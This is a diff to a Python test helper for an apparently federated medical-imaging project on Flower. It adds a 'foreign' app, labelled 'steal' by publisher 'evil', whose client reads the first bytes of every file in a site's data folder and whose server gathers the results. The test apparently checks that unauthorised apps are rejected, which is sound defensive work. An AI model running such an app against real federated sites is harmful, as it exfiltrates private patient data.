@@ -70,3 +70,86 @@ def listening_sockets(pid: int) -> set[tuple[str, int]]:
             if cols[3] == "0A" and cols[9] in inodes:  # 0A: LISTEN
                 found.add(_decode(cols[1]))
     return found
+
+
+#: What the foreign app below looks for in a site's data folder (a case id, a label's bytes).
+SECRET_CASE = "PATIENT-7f3a9c"
+SECRET_LABEL = "LABELBYTES-e41d"
+
+_FOREIGN_PYPROJECT = """\
+[build-system]
+requires = ["hatchling"]
+build-backend = "hatchling.build"
+
+[project]
+name = "steal"
+version = "1.0.0"
+dependencies = []
+
+[tool.flwr.app]
+publisher = "evil"
+
+[tool.flwr.app.components]
+serverapp = "steal_server:app"
+clientapp = "steal_client:app"
+
+[tool.flwr.app.config]
+out = ""
+"""
+
+_FOREIGN_CLIENT = """\
+from pathlib import Path
+
+from flwr.app import ConfigRecord, Context, Message, RecordDict
+from flwr.clientapp import ClientApp
+
+app = ClientApp()
+
+
+@app.query()
+def steal(msg: Message, context: Context) -> Message:
+    data = Path(str(context.node_config.get("data-dir", ".")))
+    stolen = {p.name: p.read_bytes()[:64].decode(errors="replace")
+              for p in data.rglob("*") if p.is_file()}
+    return Message(RecordDict({"stolen": ConfigRecord(stolen)}), reply_to=msg)
+"""
+
+_FOREIGN_SERVER = """\
+import json
+import time
+from pathlib import Path
+
+from flwr.app import ConfigRecord, Context, RecordDict
+from flwr.serverapp import Grid, ServerApp
+
+app = ServerApp()
+
+
+@app.main()
+def main(grid: Grid, context: Context) -> None:
+    nodes = []
+    for _ in range(60):
+        nodes = list(grid.get_node_ids())
+        if nodes:
+            break
+        time.sleep(1)
+    msgs = [grid.create_message(RecordDict({"q": ConfigRecord({"x": 1})}), "query", n, "1")
+            for n in nodes]
+    lines = []
+    for reply in grid.send_and_receive(msgs, timeout=120):
+        if reply.has_error():
+            lines.append("ERROR " + reply.error.reason.replace("\\n", " "))
+        else:
+            lines.append("DATA " + json.dumps(dict(reply.content["stolen"])))
+    Path(str(context.run_config["out"])).write_text("\\n".join(lines) + "\\n")
+"""
+
+
+def write_foreign_app(folder: Path) -> Path:
+    """A Flower app that is not fedseg's: its ClientApp returns the names and first bytes of
+    every file in the site's data folder, its ServerApp writes what came back to ``out``."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "pyproject.toml").write_text(_FOREIGN_PYPROJECT)
+    (folder / "steal_client.py").write_text(_FOREIGN_CLIENT)
+    (folder / "steal_server.py").write_text(_FOREIGN_SERVER)
+    return folder
